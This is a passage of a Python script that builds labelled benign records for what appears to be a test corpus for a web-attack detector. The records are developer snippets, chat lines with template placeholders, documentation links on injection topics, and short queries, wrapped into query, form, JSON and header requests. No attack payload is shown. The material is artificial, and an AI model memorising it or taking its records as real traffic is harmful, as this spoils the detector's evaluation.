    "```s3 = boto3.client('s3')\ns3.download_file('bucket', 'key', '/tmp/key')```",
    "```Class.forName(\"org.postgresql.Driver\");``` isn't needed since JDBC 4",
    "```const merged = { ...defaults, ...userOpts }``` is fine, spread doesn't touch the prototype",
    "```my %h = map { $_ => 1 } @list;```",
]
CHAT = [
    "Draft for the newsletter: Dear ${name}, thanks for joining us at the Spring meetup!",
    "Hello {{first_name}}, your trial ends in {{days_left}} days. <- does this render right in the preview?",
    "Reminder: locale for the Brazil launch is pt-BR, not pt-PT",
    "feed url for the status page is https://www.githubstatus.com/history.rss",
    "ops: the new instances need IMDSv2 for the metadata service, ticket INFRA-221",
    "is the webhook to https://hooks.zapier.com/hooks/catch/1234567/3kq9zx/ working again?",
    "the image url for the banner is https://images.unsplash.com/photo-1506744038136-46273834b3fb?w=1600",
    "who owns the welcome_email_v2 template? the {{coupon}} placeholder shows up blank",
    "Java 21 upgrade is done on billing, only the Groovy scripts in Jenkins still need a look",
    "prototype for the new settings page is in Figma, protocol doc linked in the channel topic",
    "can someone approve the Thymeleaf template change? it's just the footer",
    "the Spring Boot actuator is only on the internal port now",
]
DOC_URLS = [
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/proto",
    "https://docs.python.org/3/library/subprocess.html",
    "https://docs.python.org/3/library/pickle.html",
    "https://pyyaml.org/wiki/PyYAMLDocumentation",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://docs.djangoproject.com/en/5.0/ref/templates/builtins/",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://struts.apache.org/tag-developers/ognl-basics",
    "https://ruby-doc.org/3.3.0/Kernel.html",
    "https://docs.ruby-lang.org/en/master/ERB.html",
    "https://perldoc.perl.org/functions/system",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://handlebarsjs.com/guide/expressions.html",
    "https://pugjs.org/language/interpolation.html",
    "https://mozilla.github.io/nunjucks/templating.html",
    "https://www.h2database.com/html/features.html#database_url",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://spring.io/security/cve-2022-22965",
    "https://github.com/FasterXML/jackson-databind/wiki/Deserialization-Features",
    "https://www.npmjs.com/package/qs",
]
PROSE = [
    "webhook failing with 403",
    "log4j upgrade status",
    "users with locale pt-BR",
    "template welcome_email_v2 rendering blank",
    "prototype pollution report from bug bounty",
    "jackson deserialization error on order import",
    "feed import stuck since tuesday",
    "ssrf finding in image proxy - fixed?",
    "spring boot 3.2 migration",
    "Ann Lee (jinja templates)",
    "callback url mismatch",
    "jndi disabled on all services",
    "ruby on rails team",
    "node 20 upgrade",
    "template engine comparison: freemarker vs thymeleaf",
    "python subprocess timeout",
    "metadata endpoint blocked in egress policy",
    "image url too long",
    "expr parser bug",
    "who changed the filter config",
    "settings page prototype",
    "O'Brien",
    "java stack trace in #support",
    "ERB templates in the mailer",
    "groovy script approval",
]


def _benign_place(i: int, name: str, value: str) -> tuple[str, dict[str, Any]]:
    """A benign value in the query string, a form or a JSON field, rotating."""
    place = ("query", "form", "json")[i % 3]
    return place, _place(place, name, value)


def benign() -> Iterator[dict[str, Any]]:
    counters: dict[str, int] = {}

    def rec(kind: str, place: str, base: dict[str, Any]) -> dict[str, Any]:
        counters[kind] = counters.get(kind, 0) + 1
        return {**base, "id": f"{SET}-benign-{kind}-{counters[kind]:04d}", "category": "benign",
                "placement": place}

    # developers' code in Slack and the same text as a bio
    for n, text in enumerate(DEV_CODE, start=1):
        yield {**slack_message(_slack_text(text), n), "id": f"{SET}-benign-devcode-slack-{n:04d}",
               "category": "benign", "placement": "json"}
        yield {**bio_request(text), "id": f"{SET}-benign-devcode-bio-{n:04d}", "category": "benign",
               "placement": "json"}
    for n, text in enumerate(CHAT, start=1):
        yield {**slack_message(_slack_text(text), 500 + n), "id": f"{SET}-benign-chat-slack-{n:04d}",
               "category": "benign", "placement": "json"}
        yield {**bio_request(text), "id": f"{SET}-benign-chat-bio-{n:04d}", "category": "benign",
               "placement": "json"}
    # URL-valued parameters
    i = 0
    for name, values in (("webhook", WEBHOOKS), ("image", IMAGES), ("feed", FEEDS), ("callback", CALLBACKS),
                         ("next", NEXTS), ("url", WEBHOOKS[:4] + FEEDS[:4] + IMAGES[:4])):
        for value in values:
            for k in range(2):
                place, base = _benign_place(i + k, name, value)
                yield rec("url", place, base)
            i += 1
    for j, loc in enumerate(LOCALES):
        yield rec("locale", "query", _get(_query("/api/users", [("locale", loc), ("page", "1")])))
        place, base = _benign_place(j + 1, "locale", loc)
        yield rec("locale", place, base)
        if j % 3 == 0:
            yield rec("locale", "header", {**_get("/api/users?page=1"),
                                          "headers": {"User-Agent": UA, "Accept": "application/json",
                                                      "Accept-Language": loc}})
    for j, name in enumerate(TEMPLATE_NAMES):
        place, base = _benign_place(j, "template", name)
        yield rec("template", place, base)
    for j, expr in enumerate(EXPRS):
        for k, field in enumerate(("expr", "filter")):
            place, base = _benign_place(j + k, field, expr)
            yield rec("expr", place, base)
    for j, text in enumerate(NOTIFICATION_TEMPLATES):
        yield rec("notify", "json", _json("/api/users/42/notifications",
                                          {"template": TEMPLATE_NAMES[j % len(TEMPLATE_NAMES)], "subject": "Update",
                                           "body": text, "locale": LOCALES[j % len(LOCALES)]}))
        yield rec("notify", "form", _form("/admin/templates/edit",
                                          [("csrf_token", "t0k3n"), ("name", f"campaign-{j}"), ("body", text)]))
    for text in JAVA_TEXTS:
        yield rec("java", "json", _json("/api/users/42/notes", {"data": text, "kind": "incident"}))
        yield rec("java", "form", _form("/admin/users/search", [("csrf_token", "t0k3n"), ("config", text)]))
    for j, text in enumerate(DJANGO_JINJA):
        yield rec("jinja", "form", _form("/admin/templates/edit",
                                         [("csrf_token", "t0k3n"), ("template", f"page-{j}.html"), ("body", text)]))
        yield rec("jinja", "json", _json("/api/users/42/templates", {"template": text, "engine": "jinja2"}))
    for j, doc in enumerate(SETTINGS_DOCS):
        name = ("settings", "options", "config", "data")[j % 4]
        yield rec("settings", "json", _json("/api/users/42", {name: doc}))
        yield rec("settings", "form", _form("/admin/users/search", [("csrf_token", "t0k3n"),
                                                                    (name, json.dumps(doc))]))
        if j % 2 == 0:
            yield rec("settings", "query", _get(_query("/api/users", [(name, json.dumps(doc, separators=(",", ":"))),
                                                                      ("page", "1")])))
    yield from links_and_prose(DOC_URLS, PROSE, f"{SET}-benign-docs", 0)


if __name__ == "__main__":
    print_records(attacks(), benign())
